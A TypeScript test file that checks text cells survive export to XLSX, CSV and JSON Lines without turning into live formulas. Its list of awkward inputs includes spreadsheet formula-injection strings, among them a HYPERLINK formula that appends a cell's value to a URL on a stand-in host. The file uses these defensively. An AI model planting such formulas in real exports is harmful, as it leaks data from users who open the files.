import fc from 'fast-check'
import { parseCsv } from 'hucre/csv'
import { readXlsx } from 'hucre/xlsx'
import { describe, expect, it } from 'vitest'
import { byteStream } from '../../../worker/services/exports/byte-stream'
import { needsGuard } from '../../../worker/services/exports/csv'
import { openCsv, openJsonLines } from '../../../worker/services/exports/open-data/table-files'
import { csvFile } from '../../../worker/services/exports/stream-csv'
import { adoptionTable } from '../../../worker/services/exports/tables/adoption-table'
import { groupTable } from '../../../worker/services/exports/tables/group-table'
import { ledgerTable } from '../../../worker/services/exports/tables/ledger-table'
import { responseTable } from '../../../worker/services/exports/tables/response-table'
import type { FilledTable, Table } from '../../../worker/services/exports/tables/table'
import { type Sheet, workbookFile } from '../../../worker/services/exports/workbook'
import { bytesOf, pagesOf, textOf } from './row'

type Row = Record<string, string | number | null>

const tables = [adoptionTable, groupTable, ledgerTable, responseTable] as unknown as Table<Row>[]
const awkward = [
  '=1+1',
  '+86',
  '-2',
  '@SUM(A1)',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
  '一\n\n二\n',
  '\t制表',
  ' 前后有空格 ',
  '👨‍👩‍👧 𠮷',
  '914403009999031240',
  '007',
  '3-5',
  '_x000D_',
  `“引号”"和,逗号;`,
  '𠮷'.repeat(5000),
]

/** A row with this text in every cell that holds text. */
const rowOf = (table: Table<Row>, text: string): Row =>
  Object.fromEntries(
    table.columns.map(({ key, type }) => [
      key,
      type === 'text' ? text : type === 'datetime' ? '2021-03-19T01:12:05.000Z' : 7,
    ]),
  )
const filled = (table: Table<Row>, texts: string[]): FilledTable<Row> => ({
  ...table,
  rows: pagesOf(texts.map((text) => rowOf(table, text))),
})
const textsIn = (table: Table<Row>, rows: readonly (readonly unknown[])[]) =>
  rows.map((row) => table.columns.flatMap(({ type }, i) => (type === 'text' ? [row[i]] : [])))
const expected = (table: Table<Row>, texts: string[]) =>
  texts.map((text) => table.columns.filter(({ type }) => type === 'text').map(() => text))
const unguarded = (cell: unknown) => {
  const text = String(cell)
  return text.startsWith("'") && needsGuard(text.slice(1)) ? text.slice(1) : text
}
const anyTexts = fc.array(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }), {
  minLength: 1,
  maxLength: 10,
})

async function sheetOf(table: Table<Row>, texts: string[]) {
  const printed =
    table.name === 'adoption' ? { above: () => ['标题', '一行'], below: () => ['单位'] } : undefined
  const sheets = [{ table: filled(table, texts), ...(printed && { printed }) }] as unknown as Sheet<never>[]
  const bytes = await bytesOf(byteStream(workbookFile(sheets, '2021-03-20T02:00:00.000Z')))
  const [sheet] = (await readXlsx(bytes)).sheets
  const above = printed ? 3 : 1
  return { rows: (sheet?.rows ?? []).slice(above, above + texts.length), cells: sheet?.cells }
}

describe.each(tables)('every cell of text in the table $name', (table) => {
  it('comes back from a workbook as it was, and none is a formula', async () => {
    const { rows, cells } = await sheetOf(table, awkward)
    expect(textsIn(table, rows)).toEqual(expected(table, awkward))
    for (const cell of cells?.values() ?? []) expect(cell.formula).toBeUndefined()
  })

  it('comes back from CSV, less the apostrophe of a guarded one, and from JSON Lines', async () => {
    const parse = (csv: string) => parseCsv(csv.slice(1), { delimiter: ',' }).slice(1)
    const staff = parse(await textOf(byteStream(csvFile(filled(table, awkward)))))
    const open = parse(await textOf(byteStream(openCsv(filled(table, awkward)))))
    for (const rows of [staff, open])
      expect(textsIn(table, rows).map((row) => row.map(unguarded))).toEqual(expected(table, awkward))
    const lines = (await textOf(byteStream(openJsonLines(filled(table, awkward))))).trimEnd().split('\n')
    expect(
      textsIn(
        table,
        lines.map((line) => Object.values(JSON.parse(line) as object)),
      ),
    ).toEqual(expected(table, awkward))
  })

  it('comes back whatever it is', async () => {
    await fc.assert(
      fc.asyncProperty(anyTexts, async (texts) => {
        expect(textsIn(table, (await sheetOf(table, texts)).rows)).toEqual(expected(table, texts))
      }),
      { numRuns: 15 },
    )
  }, 20_000)
})
